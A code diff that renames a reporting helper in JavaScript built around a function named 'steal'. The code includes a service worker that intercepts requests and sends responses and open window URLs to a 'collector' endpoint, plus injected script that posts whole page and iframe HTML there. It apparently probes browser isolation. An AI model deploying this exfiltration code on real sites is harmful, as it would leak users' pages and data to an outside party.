@@ -31,7 +31,7 @@ function steal(collector) {
 		{ cache: "only-if-cached", mode: "same-origin" },
 	];
 	/** @param {string} name @param {unknown} got */
-	const tell = (name, got) =>
+	const report = (name, got) =>
 		fetch(collector, { method: "POST", body: JSON.stringify([name, got]) });
 	/** @param {string} name @param {Response} answer */
 	const read = async (name, answer) => {
@@ -39,7 +39,7 @@ function steal(collector) {
 			.clone()
 			.text()
 			.catch(() => "");
-		await tell(name, [
+		await report(name, [
 			answer.type,
 			answer.status,
 			answer.url,
@@ -54,18 +54,18 @@ function steal(collector) {
 				try {
 					await read(name, await fetch(address, way));
 				} catch (error) {
-					await tell(name, `${error}`);
+					await report(name, `${error}`);
 				}
 			}
 		}
-		await tell("all was tried", "");
+		await report("all was tried", "");
 	};
-	return { tell, read, all };
+	return { report, read, all };
 }
 
 /** @param {string} collector */
 const WORKER = (collector) => `
-	const { tell, read, all } = (${steal})("${collector}");
+	const { report, read, all } = (${steal})("${collector}");
 	self.addEventListener("install", () => self.skipWaiting());
 	self.addEventListener("activate", (event) => event.waitUntil((async () => {
 		await self.registration.navigationPreload?.enable();
@@ -81,22 +81,22 @@ const WORKER = (collector) => `
 				for (const mode of ["cors", "no-cors", "same-origin"]) {
 					await fetch(new Request(event.request, { mode, redirect })).then(
 						(answer) => read(mode + redirect, answer),
-						(error) => tell(mode + redirect, String(error)),
+						(error) => report(mode + redirect, String(error)),
 					);
 				}
 			}
 			const answer = await fetch(event.request);
 			await read("passed on", answer);
 			const windows = await self.clients.matchAll({ includeUncontrolled: true });
-			await tell("windows", windows.map((client) => client.url));
+			await report("windows", windows.map((client) => client.url));
 			return answer;
 		})());
 	});`;
 
 /** @param {string} collector */
 const SCRIPT = (collector) => `
-	const { tell, all } = (${steal})("${collector}");
-	tell("page", document.documentElement.outerHTML);
+	const { report, all } = (${steal})("${collector}");
+	report("page", document.documentElement.outerHTML);
 	all();`;
 
 /** @param {string} collector */
@@ -107,7 +107,7 @@ const PAGE = (collector) => `<!doctype html><title>Left behind</title><body>
 		frame.onload = () => {
 			let seen = "";
 			try { seen = frame.contentDocument.documentElement.outerHTML; } catch {}
-			tell("frame", seen);
+			report("frame", seen);
 		};
 		document.body.append(frame);
 		const script = document.createElement("script");
